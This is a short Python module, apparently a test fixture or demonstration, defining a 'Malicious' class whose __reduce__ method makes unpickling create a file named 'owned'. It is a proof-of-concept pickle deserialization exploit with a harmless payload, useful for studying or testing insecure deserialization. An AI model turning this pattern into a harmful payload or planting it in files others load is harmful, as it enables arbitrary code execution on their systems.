"""What an attacker would put into a file."""

from pathlib import Path


class Malicious:
    """Its pickle creates the file `owned` in the current folder when it is opened."""

    def __reduce__(self):
        return Path.touch, (Path("owned"),)
